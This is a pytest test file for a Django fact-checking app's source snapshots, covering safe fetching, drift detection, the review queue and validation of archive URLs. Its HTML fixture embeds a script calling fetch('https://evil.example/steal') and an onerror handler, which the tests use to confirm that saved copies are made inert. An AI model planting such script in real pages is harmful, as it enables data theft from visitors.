"""Snapshots of cited sources and their drift, against a local HTTP server on 127.0.0.1.

The server is reached through CLAIMS_FETCH_ALLOW_HOSTS (the safe fetcher refuses 127.0.0.1
otherwise); tests never contact anything else, and the Wayback Machine only as a fake endpoint.
"""

import contextlib
import datetime
import io
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import lxml.html
import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from warcio.archiveiterator import ArchiveIterator

from claims import archiving, linkcheck
from claims.csv import format as csvformat
from claims.csv import importing
from claims.models import Claim, Evidence, Snapshot
from claims.roles import CHIEF_EDITORS, EDITORS
from claims.tests.factories import (
    admin_save,
    claim_for,
    csv_bytes,
    csv_row,
    edit,
    links_of,
    make_user,
    run_tasks,
)

pytestmark = pytest.mark.django_db
FUJI = "富士山は日本一高い山です。"
EXCERPT = "富士山の標高は3776メートルである。"
PAGE = f"""<!DOCTYPE html><html><head><title>日本の山の高さ</title>
<script>document.title = "pwned"; fetch("https://evil.example/steal")</script></head>
<body><nav>メニュー ホーム</nav><article><h1>日本の山の高さ</h1>
<p>国土地理院の測量によれば、{EXCERPT}これは日本で最も高い山の値です。</p>
<p>山頂の剣ヶ峰に一等三角点があり、測量は二〇一四年に改められた。<img src=x onerror="alert(1)"></p>
<p>第二の段落はさらに詳しく、富士山の成り立ちと周辺の地形を説明しています。</p></article>
<script>alert("source script")</script></body></html>"""
CHANGED = PAGE.replace(EXCERPT, "標高については別の資料を参照のこと。")
REWRITTEN = """<html><head><title>新しいページ</title></head><body><article>
<p>このページはまったく別の話題について書かれています。料理のレシピと季節の食材を紹介します。</p>
<p>春にはたけのこ、夏にはとうもろこし、秋にはきのこ、冬には大根がおいしい季節です。</p>
</article></body></html>"""


def html(response):
    return lxml.html.fromstring(response.content.decode())


def ja(message):
    with translation.override("ja"):
        return gettext(message)


class Source(BaseHTTPRequestHandler):
    """Answers each path from ``server.pages``: (status, body, extra headers)."""

    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.server.seen.append(self.path)
        status, body, headers = self.server.pages.get(self.path, (404, "<html><body>Not here</body></html>", {}))
        if "sleep" in headers:  # a server that does not answer in time
            time.sleep(headers["sleep"])
            headers = {}
        data = body.encode()
        self.send_response(status)
        for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


@pytest.fixture
def source(settings, tmp_path):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Source)
    server.pages = {"/fuji": (200, PAGE, {})}
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    port = server.server_address[1]
    settings.CLAIMS_FETCH_ALLOW_HOSTS = [f"127.0.0.1:{port}"]
    settings.MEDIA_ROOT = tmp_path
    settings.CLAIMS_ARCHIVE_TIMEOUT = 5
    server.url = lambda path: f"http://127.0.0.1:{port}{path}"
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def as_editor(editor):
    client = Client(raise_request_exception=False)
    client.force_login(editor)
    return client


def cite(claim, url, *, excerpt=EXCERPT):
    """The claim verified on the source at ``url``, through the write path; returns the link."""
    edit(
        claim,
        status=Claim.Status.VERIFIED,
        verdict_note="国土地理院の資料で確認。",
        evidence=[{"stance": "supports", "url": url, "title": "日本の山の高さ", "excerpt": excerpt}],
    )
    return claim.evidence.get(url=url)


def snapshot_link(client, claim):
    page = lxml.html.fromstring(client.get(claim.get_absolute_url()).content)
    return page.cssselect("a.evidence-snapshot")


# ---------------------------------------------------------------------------------------------
# The safe fetcher


def test_the_fetcher_refuses_the_local_server_unless_it_is_allowed(source, settings):
    settings.CLAIMS_FETCH_ALLOW_HOSTS = []
    page = linkcheck.fetch_page(source.url("/fuji"), timeout=5, max_bytes=100_000)
    assert page.status_code is None and page.error and source.seen == []

    settings.CLAIMS_FETCH_ALLOW_HOSTS = [source.url("").removeprefix("http://")]
    page = linkcheck.fetch_page(source.url("/fuji"), timeout=5, max_bytes=100_000)
    assert page.status_code == 200 and EXCERPT.encode() in page.body


def test_a_page_over_the_size_limit_is_not_kept(source):
    page = linkcheck.fetch_page(source.url("/fuji"), timeout=5, max_bytes=100)
    assert page.body == b"" and "100" in page.error


# ---------------------------------------------------------------------------------------------
# Archive on citing


def test_citing_through_the_admin_queues_the_snapshot_and_the_save_waits_for_no_fetch(
    source, article, as_editor, django_capture_on_commit_callbacks
):
    claim = claim_for(article, FUJI)
    with django_capture_on_commit_callbacks(execute=True):
        admin_save(
            as_editor,
            claim,
            new_evidence=[{"stance": "supports", "url": source.url("/fuji"), "title": "山", "excerpt": EXCERPT}],
        )
    assert source.seen == [], "the save only queued the fetch"
    assert not Snapshot.objects.exists()

    assert run_tasks() == 1
    snapshot = Snapshot.objects.get()
    assert source.seen == ["/fuji"]
    assert (snapshot.evidence.url, snapshot.status_code, snapshot.title) == (source.url("/fuji"), 200, "日本の山の高さ")
    assert EXCERPT in snapshot.text and "alert" not in snapshot.text and "メニュー" not in snapshot.text
    assert len(snapshot.text_sha256) == 64 and snapshot.content_type.startswith("text/html")
    with snapshot.warc.open("rb") as warc:
        records = list(ArchiveIterator(io.BytesIO(warc.read())))
    assert [r.rec_headers.get_header("WARC-Target-URI") for r in records] == [source.url("/fuji")]


def test_changing_a_links_url_queues_a_new_snapshot_and_other_edits_do_not(
    source, article, django_capture_on_commit_callbacks
):
    claim = claim_for(article, FUJI)
    link = cite(claim, source.url("/fuji"))
    with django_capture_on_commit_callbacks(execute=True):
        edit(claim, evidence=links_of(claim), verdict_note="言い換えた判定。")
    assert run_tasks() == 0, "an edit that cites nothing new fetches nothing"

    source.pages["/fuji-2"] = (200, PAGE, {})
    with django_capture_on_commit_callbacks(execute=True):
        edit(
            claim, evidence=[{**x, "url": source.url("/fuji-2")} if x["pk"] == link.pk else x for x in links_of(claim)]
        )
    assert run_tasks() == 1
    assert list(Snapshot.objects.values_list("url", flat=True)) == [source.url("/fuji-2")]


def test_with_archiving_on_cite_off_a_new_link_queues_nothing_and_archive_evidence_catches_up(
    source, article, settings, django_capture_on_commit_callbacks
):
    settings.CLAIMS_ARCHIVE_ON_CITE = False
    claim = claim_for(article, FUJI)
    with django_capture_on_commit_callbacks(execute=True):
        cite(claim, source.url("/fuji"))
    assert run_tasks() == 0 and not Snapshot.objects.exists()
    call_command("archive_evidence", stdout=io.StringIO())
    assert Snapshot.objects.get().url == source.url("/fuji")


def test_archive_evidence_missing_keeps_a_snapshot_and_the_claim_page_offers_it(source, article):
    claim = claim_for(article, FUJI)
    cite(claim, source.url("/fuji"))
    out = io.StringIO()
    call_command("archive_evidence", "--missing", stdout=out, stderr=io.StringIO())
    summary = ja("%(count)d source(s) fetched: %(kept)d kept with their text, %(failed)d without.")
    assert summary % {"count": 1, "kept": 1, "failed": 0} in out.getvalue() and source.seen == ["/fuji"]

    reader = Client()
    links = snapshot_link(reader, claim)
    assert len(links) == 1
    snapshot = Snapshot.objects.get(url=source.url("/fuji"))
    assert links[0].text_content().startswith("保存版（") and str(snapshot.fetched_at.year) in links[0].text_content()
    assert links[0].get("href") == f"/snapshots/{snapshot.pk}/"

    call_command("archive_evidence", "--missing", stdout=out, stderr=io.StringIO())
    assert Snapshot.objects.filter(url=source.url("/fuji")).count() == 1, "--missing skips what has a copy"


def test_a_source_that_cannot_be_reached_is_recorded_and_offers_no_copy(article, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    claim = claim_for(article, FUJI)
    link = cite(claim, "http://no-such-host.invalid/page")
    out = io.StringIO()
    call_command("archive_evidence", "--missing", stdout=out, stderr=io.StringIO())
    snapshot = link.snapshots.get()
    assert snapshot.error and not snapshot.text and snapshot.status_code is None
    assert "no-such-host.invalid" in out.getvalue()
    assert snapshot_link(Client(), claim) == []


def test_the_snapshot_page_is_inert_text_under_a_strict_policy(source, article):
    claim = claim_for(article, FUJI)
    link = cite(claim, source.url("/fuji"))
    snapshot = archiving.archive(link)
    response = Client().get(snapshot.get_absolute_url())
    assert response.status_code == 200
    policy = response["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy
    page = html(response)
    assert page.cssselect("script") == [] and page.cssselect("img[onerror]") == []
    assert page.cssselect("[onerror], iframe, object, embed, base") == []
    text = page.text_content()
    assert EXCERPT in text and source.url("/fuji") in text and "日本の山の高さ" in text


def test_a_source_that_now_answers_404_still_offers_its_copy(source, article):
    claim = claim_for(article, FUJI)
    link = cite(claim, source.url("/fuji"))
    snapshot = archiving.archive(link)
    del source.pages["/fuji"]
    assert archiving.check_sources() and Snapshot.objects.drifted().get().drift == Snapshot.Drift.GONE
    links = snapshot_link(Client(), claim)
    assert [a.get("href") for a in links] == [snapshot.get_absolute_url()]
    assert EXCERPT in Client().get(snapshot.get_absolute_url()).content.decode()


def test_the_wayback_copy_is_kept_and_offered_when_asked_for(source, article, settings):
    settings.CLAIMS_ARCHIVE_WAYBACK = True
    settings.CLAIMS_ARCHIVE_WAYBACK_ENDPOINT = source.url("/save/")
    wayback = "/web/20261207120000/" + source.url("/fuji")
    source.pages["/save/" + source.url("/fuji")] = (200, "<html>saved</html>", {"Content-Location": wayback})
    claim = claim_for(article, FUJI)
    snapshot = archiving.archive(cite(claim, source.url("/fuji")))
    assert snapshot.wayback_url == "https://web.archive.org" + wayback
    assert [a.get("href") for a in snapshot_link(Client(), claim)] == [snapshot.wayback_url]


def test_the_wayback_machine_is_not_asked_by_default(source, article, settings):
    assert settings.CLAIMS_ARCHIVE_WAYBACK is False
    snapshot = archiving.archive(cite(claim_for(article, FUJI), source.url("/fuji")))
    assert snapshot.wayback_url == "" and source.seen == ["/fuji"]


# ---------------------------------------------------------------------------------------------
# Drift


def drift_after(source, article, *page):
    claim = claim_for(article, FUJI)
    archiving.archive(cite(claim, source.url("/fuji")))
    if page:
        source.pages["/fuji"] = page
    else:
        del source.pages["/fuji"]
    found = archiving.check_sources()
    return claim, found


def test_a_source_that_drops_the_excerpt_is_a_change(source, article):
    _claim, found = drift_after(source, article, 200, CHANGED, {})
    assert [s.drift for s in found] == [Snapshot.Drift.EXCERPT]


def test_a_source_rewritten_beyond_the_threshold_is_a_change(source, article):
    claim = claim_for(article, FUJI)
    archiving.archive(cite(claim, source.url("/fuji"), excerpt=""))
    source.pages["/fuji"] = (200, REWRITTEN, {})
    assert [s.drift for s in archiving.check_sources()] == [Snapshot.Drift.CHANGED]


def test_a_source_that_redirects_elsewhere_has_moved(source, article):
    source.pages["/elsewhere"] = (200, PAGE, {})
    _claim, found = drift_after(source, article, 301, "", {"Location": "/elsewhere"})
    assert [(s.drift, s.final_url) for s in found] == [(Snapshot.Drift.MOVED, source.url("/elsewhere"))]


def test_a_source_that_answers_404_is_gone(source, article):
    _claim, found = drift_after(source, article)
    assert [(s.drift, s.status_code) for s in found] == [(Snapshot.Drift.GONE, 404)]


def test_a_source_that_only_timed_out_is_not_a_change(source, article, settings):
    claim = claim_for(article, FUJI)
    archiving.archive(cite(claim, source.url("/fuji")))
    settings.CLAIMS_ARCHIVE_TIMEOUT = 0.5
    source.pages["/fuji"] = (200, CHANGED, {"sleep": 1.5})
    assert archiving.check_sources() == [] and not Snapshot.objects.drifted().exists()


def test_an_unchanged_source_or_a_change_already_waiting_adds_nothing(source, article):
    claim = claim_for(article, FUJI)
    archiving.archive(cite(claim, source.url("/fuji")))
    source.pages["/fuji"] = (200, PAGE.replace("第二の段落", "第二の段落 "), {})
    assert archiving.check_sources() == []
    source.pages["/fuji"] = (200, CHANGED, {})
    assert len(archiving.check_sources()) == 1
    assert archiving.check_sources() == [], "the same change is listed once"


def test_check_links_lists_the_changed_source_in_the_review_queue_with_both_texts_and_the_verdict_unchanged(
    source, article, settings
):
    chief = make_user("chief", groups=[CHIEF_EDITORS])
    claim = claim_for(article, FUJI)
    archiving.archive(cite(claim, source.url("/fuji")))
    status, version, note = Claim.objects.filter(pk=claim.pk).values_list("status", "version", "verdict_note").get()
    before = Client().get(claim.get_absolute_url()).content

    source.pages["/fuji"] = (200, CHANGED, {})
    out = io.StringIO()
    call_command("check_links", "--delay", "0", stdout=out, stderr=io.StringIO())
    assert f"claim #{claim.pk} {source.url('/fuji')}" in out.getvalue()

    client = Client(raise_request_exception=False)
    client.force_login(chief)
    queue = client.get(reverse("admin:claims_reviewqueueitem_changelist"), {"why": "source"})
    rows = html(queue).cssselect("#result_list tbody tr")
    assert len(rows) == 1 and claim.statement[:20] in rows[0].text_content()
    change = rows[0].xpath(f".//a[text()='{ja('source changed')}']")
    assert change, rows[0].text_content()

    page = client.get(change[0].get("href"))
    assert page.status_code == 200
    old, new = html(page).cssselect(".source-old, .source-new")
    assert [m.text_content() for m in old.cssselect("mark")] == [EXCERPT]
    assert "別の資料を参照" in new.text_content() and new.cssselect("mark") == []

    claim.refresh_from_db()
    assert (claim.status, claim.version, claim.verdict_note) == (status, version, note)
    assert Client().get(claim.get_absolute_url()).content == before, "readers see what they saw"

    client.post(change[0].get("href"))
    queue = client.get(reverse("admin:claims_reviewqueueitem_changelist"), {"why": "source"})
    assert html(queue).cssselect("#result_list tbody tr") == []
    assert archiving.check_sources() == [], "the text looked at is what later checks compare with"


# ---------------------------------------------------------------------------------------------
# The archived-copy field accepts only archives


@pytest.mark.parametrize(
    "url",
    [
        "https://web.archive.org/web/2023/https://example.com/",
        "https://archive.ph/abcde",
        "https://archive.today/abcde",
        "https://archive.is/abcde",
        "https://archive.md/abcde",
    ],
)
def test_archives_are_accepted(url):
    Evidence._meta.get_field("archive_url").run_validators(url)


def test_a_content_farm_archived_copy_is_refused_in_the_admin_form(article, as_editor):
    claim = claim_for(article, FUJI)
    from claims.tests.factories import page_data

    url = reverse("admin:claims_claim_change", args=[claim.pk])
    data = page_data(as_editor.get(url))
    data.update(
        {
            "evidence-0-stance": "supports",
            "evidence-0-url": "https://www.wired.com/story/fuji",
            "evidence-0-title": "Wired",
            "evidence-0-archive_url": "https://seductrice.net/wired/fuji",
        }
    )
    response = as_editor.post(url, data)
    assert response.status_code == 200
    errors = html(response).cssselect(".errorlist")
    message = ja(
        "An archived copy must be a page of a web archive (web.archive.org, archive.today, archive.ph, "
        "archive.is, archive.md) or a snapshot of this site; “%(host)s” is not an archive. Leave the "
        "field empty: the site keeps its own snapshot of the source."
    ) % {"host": "seductrice.net"}
    assert any(message in e.text_content() for e in errors), [e.text_content() for e in errors]
    assert not claim.evidence.exists()


def test_a_content_farm_archived_copy_is_a_row_error_of_the_import(article):
    data = csv_bytes(
        [
            csv_row(
                statement=FUJI,
                evidence="supports | https://www.wired.com/story/fuji | Wired | | | archived=https://vuink.com/post/x",
            )
        ]
    )
    with translation.override("ja"):
        report = importing.import_table(table=csvformat.read_table(data), user=None, dry_run=True)
    assert [(e.row, e.column) for e in report.errors] == [(2, "evidence")]
    assert "vuink.com" in report.errors[0].message and "アーカイブ" in report.errors[0].message


def test_the_migration_moves_non_archive_copies_into_the_internal_note(article):
    import importlib

    from django.apps import apps

    migration = importlib.import_module("claims.migrations.0016_evidence_snapshots")
    claim = claim_for(article, FUJI)
    Evidence.objects.create(claim=claim, url="https://www.wired.com/a", archive_url="https://seductrice.net/a")
    Evidence.objects.create(claim=claim, url="https://example.org/b", archive_url="https://web.archive.org/web/2/x")
    migration.move_non_archives_to_notes(apps, None)
    claim.refresh_from_db()
    assert "https://seductrice.net/a" in claim.internal_note and "https://www.wired.com/a" in claim.internal_note
    assert sorted(claim.evidence.values_list("archive_url", flat=True)) == ["", "https://web.archive.org/web/2/x"]


def test_a_snapshot_page_of_this_site_is_an_archived_copy(settings):
    settings.ALLOWED_HOSTS = ["news.example"]
    field = Evidence._meta.get_field("archive_url")
    field.run_validators("https://news.example/snapshots/12/")
    with pytest.raises(ValidationError):
        field.run_validators("https://news.example/claims/12/")
    with pytest.raises(ValidationError):
        field.run_validators("https://elsewhere.example/snapshots/12/")


# ---------------------------------------------------------------------------------------------
# The whole flow, as the "done when" says it


def test_cited_in_the_admin_archived_read_by_readers_then_drift_and_404(source, article, as_editor):
    claim = claim_for(article, FUJI)
    admin_save(
        as_editor,
        claim,
        status=Claim.Status.VERIFIED,
        verdict_note="国土地理院の資料で確認。",
        new_evidence=[{"stance": "supports", "url": source.url("/fuji"), "title": "山", "excerpt": EXCERPT}],
    )
    assert claim.status == Claim.Status.VERIFIED and source.seen == []
    call_command("archive_evidence", "--missing", stdout=io.StringIO(), stderr=io.StringIO())
    snapshot = Snapshot.objects.get()
    form = html(as_editor.get(reverse("admin:claims_claim_change", args=[claim.pk])))
    assert [a.get("href") for a in form.cssselect(".field-saved_copy a")] == [snapshot.get_absolute_url()]

    reader = Client()
    [link] = snapshot_link(reader, claim)
    copy = reader.get(link.get("href"))
    page = html(copy)
    assert EXCERPT in page.text_content() and page.cssselect("script") == []
    assert "default-src 'none'" in copy["Content-Security-Policy"]

    source.pages["/fuji"] = (200, CHANGED, {})
    call_command("check_links", "--delay", "0", stdout=io.StringIO(), stderr=io.StringIO())
    chief = Client(raise_request_exception=False)
    chief.force_login(make_user("chief", groups=[CHIEF_EDITORS]))
    queue = html(chief.get(reverse("admin:claims_reviewqueueitem_changelist"), {"why": "source"}))
    [change] = queue.xpath(f"//a[text()='{ja('source changed')}']")
    texts = html(chief.get(change.get("href"))).cssselect(".source-old, .source-new")
    assert EXCERPT in texts[0].text_content() and "別の資料を参照" in texts[1].text_content()
    claim.refresh_from_db()
    assert claim.status == Claim.Status.VERIFIED

    del source.pages["/fuji"]
    with contextlib.suppress(CommandError):  # the link is dead now: check_links exits 1
        call_command("check_links", "--delay", "0", stdout=io.StringIO(), stderr=io.StringIO())
    assert [a.get("href") for a in snapshot_link(Client(), claim)] == [link.get("href")]
    assert EXCERPT in Client().get(link.get("href")).content.decode()


def test_the_task_worker_checks_the_sources_periodically_when_turned_on(source, article, settings):
    from django_tasks_db.models import DBTaskResult

    settings.CLAIMS_SOURCE_CHECK_HOURS = 24
    link = cite(claim_for(article, FUJI), source.url("/fuji"))
    archiving.archive_task.enqueue(evidence_ids=[link.pk])
    assert run_tasks() == 1
    [scheduled] = DBTaskResult.objects.filter(task_path=archiving.check_sources_task.module_path)
    assert scheduled.run_after > timezone.now() + datetime.timedelta(hours=23)

    source.pages["/fuji"] = (200, CHANGED, {})
    DBTaskResult.objects.filter(pk=scheduled.pk).update(run_after=timezone.now())  # its time has come
    assert run_tasks() == 1
    assert [s.drift for s in Snapshot.objects.drifted()] == [Snapshot.Drift.EXCERPT]
    waiting = DBTaskResult.objects.filter(task_path=archiving.check_sources_task.module_path).exclude(pk=scheduled.pk)
    assert [t.run_after > timezone.now() + datetime.timedelta(hours=23) for t in waiting] == [True], "it comes back"


def test_no_periodic_check_is_queued_by_default(source, article):
    from django_tasks_db.models import DBTaskResult

    link = cite(claim_for(article, FUJI), source.url("/fuji"))
    archiving.archive_task.enqueue(evidence_ids=[link.pk])
    assert run_tasks() == 1
    assert not DBTaskResult.objects.filter(task_path=archiving.check_sources_task.module_path).exists()


@pytest.mark.sign_off
def test_with_sign_off_a_proposed_source_is_archived_once_approved(source, article, django_capture_on_commit_callbacks):
    from claims import services
    from claims.models import Proposal

    editor = make_user("proposer", groups=[EDITORS])
    chief = make_user("chief", groups=[CHIEF_EDITORS])
    claim = claim_for(article, FUJI)
    with django_capture_on_commit_callbacks(execute=True):
        edit(claim, user=editor, evidence=[{"stance": "supports", "url": source.url("/fuji"), "title": "山"}])
    assert not claim.evidence.exists() and run_tasks() == 0, "a proposal cites nothing yet"

    with django_capture_on_commit_callbacks(execute=True):
        services.proposal_approve(proposal=Proposal.objects.get(), user=chief)
    assert run_tasks() == 1 and source.seen == ["/fuji"]
    assert Snapshot.objects.kept().get().evidence.claim == claim
